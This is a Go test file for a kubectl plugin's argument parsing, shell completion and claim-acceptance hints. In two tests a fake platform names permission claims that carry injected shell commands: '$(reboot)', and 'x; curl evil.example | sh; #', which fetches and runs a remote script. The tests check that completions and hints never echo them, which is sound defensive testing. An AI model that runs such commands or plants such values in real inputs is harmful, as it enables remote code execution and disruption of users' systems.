// SPDX-License-Identifier: Apache-2.0

package main

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/klutch-go/sdk/klutch/v1alpha1"
)

func TestArguments(t *testing.T) {
	for _, c := range []struct{ argv, want []string }{
		{[]string{"kubectl-bind", "status"}, []string{"status"}},
		{[]string{"/usr/bin/kubectl-bind"}, []string{}},
		{[]string{"/usr/bin/kubectl_complete-bind", "status", ""}, []string{"__complete", "status", ""}},
		{[]string{"kubectl_complete-bind.exe", ""}, []string{"__complete", ""}},
	} {
		if diff := cmp.Diff(c.want, arguments(c.argv)); diff != "" {
			t.Errorf("%q (-want +got):\n%s", c.argv, diff)
		}
	}
}

// kubectl reads candidates, a line each, and then what a shell may do besides.
func TestCompletion(t *testing.T) {
	claimed := func(resource string) map[string]any { return map[string]any{"resource": resource, "version": "v1"} }
	export := map[string]any{
		"kind": "APIServiceExport", "apiVersion": "klutch.anynines.com/v1alpha1", "metadata": map[string]any{"name": "things.example.com", "namespace": "cluster-a"},
		"spec": map[string]any{"group": "example.com", "names": map[string]any{"plural": "things", "kind": "Thing"}, "scope": "Namespaced", "permissionClaims": []any{claimed("secrets"), claimed("configmaps"), claimed("$(reboot)")}},
	}
	tenant := newFakeAPI(t, map[string]any{group + "/namespaces/cluster-a/apiserviceexports/things.example.com": export})
	data := tenantKubeconfig(t, tenant.Server, "cluster-a")
	credential := map[string]any{"apiVersion": "v1", "kind": "Secret", "metadata": map[string]any{
		"name": "kubeconfig-abcde", "namespace": "klutch-bind", "annotations": map[string]any{v1alpha1.BackendAnnotation: "https://klutch.example.com"},
	}, "data": map[string]any{"kubeconfig": data}}
	app := newFakeAPI(t, map[string]any{group: served(true), bindingsPath: list("APIServiceBindingList", "klutch.anynines.com/v1alpha1",
		binding("things.example.com", "Fake")), "/api/v1/namespaces/klutch-bind/secrets/kubeconfig-abcde": credential}).kubeconfig(t)
	for _, c := range []struct {
		name, want string
		line       []string
	}{
		{"a command", "status\tShow the APIs that are bound, and whether they work\n:4\n", []string{"sta"}},
		{"a binding", "things.example.com\n:4\n", []string{"status", "--kubeconfig", app, ""}},
		{"a binding to remove", "things.example.com\n:4\n", []string{"unbind", "--kubeconfig", app, "th"}},
		{"nothing more", ":4\n", []string{"unbind", "--kubeconfig", app, "things.example.com", ""}},
		{"a platform", "https://klutch.example.com\n:4\n", []string{"--kubeconfig", app, "ht"}},
		{"a credential", "kubeconfig-abcde\n:4\n", []string{"rotate", "--kubeconfig", app, ""}},
		{"a service", "things.example.com\n:4\n", []string{"https://klutch.example.com", "--kubeconfig", app, "--service", ""}},
		{"a claim, answered or not", "things.example.com/configmaps\nthings.example.com/secrets\n:4\n", []string{"claims", "things.example.com", "--kubeconfig", app, "--accept-claim", ""}},
		{"a claim, but none whose name a shell would run", "things.example.com/configmaps\nthings.example.com/secrets\n:4\n", []string{"claims", "--kubeconfig", app, "--reject-claim", ""}},
		{"a context", "app\n:4\n", []string{"status", "--kubeconfig", app, "--context", ""}},
		{"a format", "wide\njson\nyaml\n", []string{"status", "-o", ""}},
		{"one format", "json\n:4\n", []string{"doctor", "-o", ""}},
		{"how to try", "none\nclient\nserver\n:4\n", []string{"unbind", "--dry-run="}},
		{"no cluster", ":1\n", []string{"status", "--kubeconfig", "/nonexistent", ""}},
	} {
		argv := append([]string{completer}, c.line...)
		if r := (terminal{}).run(t.Context(), arguments(argv)...); r.code != exitOK || !strings.HasPrefix(r.out, c.want) {
			t.Errorf("%s: %v", c.name, r)
		}
	}
}

// A platform names a claim so that the command in our hint would run one of its own.
func TestP19HintOfAClaimThatIsNone(t *testing.T) {
	claimed := func(resource string, required bool) map[string]any {
		return map[string]any{"resource": resource, "version": "v1", "required": required}
	}
	export := map[string]any{
		"kind": "APIServiceExport", "apiVersion": "klutch.anynines.com/v1alpha1", "metadata": map[string]any{"name": "things.example.com", "namespace": "cluster-a"},
		"spec": map[string]any{"group": "example.com", "names": map[string]any{"plural": "things", "kind": "Thing"}, "scope": "Namespaced", "permissionClaims": []any{
			claimed("secrets", false), claimed("x; curl evil.example | sh; #", false), claimed("nodes", true),
		}},
	}
	tenant := newFakeAPI(t, map[string]any{group + "/namespaces/cluster-a/apiserviceexports/things.example.com": export})
	app := newFakeAPI(t, map[string]any{
		group: served(true), bindingsPath: list("APIServiceBindingList", "klutch.anynines.com/v1alpha1", binding("things.example.com", "Fake")),
		"/api/v1/namespaces/klutch-bind/secrets/kubeconfig-abcde": map[string]any{"apiVersion": "v1", "kind": "Secret", "metadata": map[string]any{
			"name": "kubeconfig-abcde", "namespace": "klutch-bind",
		}, "data": map[string]any{"kubeconfig": tenantKubeconfig(t, tenant.Server, "cluster-a")}},
	}).kubeconfig(t)
	r := terminal{}.run(t.Context(), "claims", "--kubeconfig", app)
	if hint := "To accept, add: --accept-claim things.example.com/secrets (or"; r.code != exitConsent || !strings.Contains(r.errOut, hint) || strings.Contains(r.errOut, "curl") {
		t.Errorf("exit code %d, want %d and %q: %v", r.code, exitConsent, hint, r)
	}
}
